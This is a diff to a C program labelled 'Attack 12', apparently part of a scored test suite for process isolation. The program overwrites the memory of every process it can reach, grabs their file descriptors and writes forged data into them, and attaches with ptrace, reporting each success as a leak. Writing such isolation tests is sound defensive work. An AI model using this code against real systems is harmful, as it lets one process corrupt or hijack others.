@@ -1,5 +1,6 @@
 /* Attack 12: an honest server that first traces and overwrites every process that it can see. */
-/* Points: 63 */
+/* A program that it catches while that is being started is one of its own, and may suffer. */
+/* Points: 60-63 */
 #define _GNU_SOURCE
 #include "honest.h"
 
@@ -34,11 +35,12 @@ static void attack(pid_t pid)
     process_vm_writev(pid, &ours, 1, &theirs, 1, 0);
     int process = (int)syscall(SYS_pidfd_open, pid, 0);
     for (int fd = 0; fd < 16; fd++)
-        if (write((int)syscall(SYS_pidfd_getfd, process, fd, 0), "forged", 6) > 0)
+        if (write((int)syscall(SYS_pidfd_getfd, process, fd, 0), "forged", 6) > 0 &&
+            !is_our_own(pid)) /* it may have become one meanwhile, by execve */
             fputs("LEAKED a descriptor\n", stdout);
     if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) != 0)
         return;
-    if (!is_our_own(pid)) /* it may have become one meanwhile, by execve */
+    if (!is_our_own(pid))
         fputs("LEAKED a trace\n", stdout);
     ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
     waitpid(pid, NULL, __WALL);
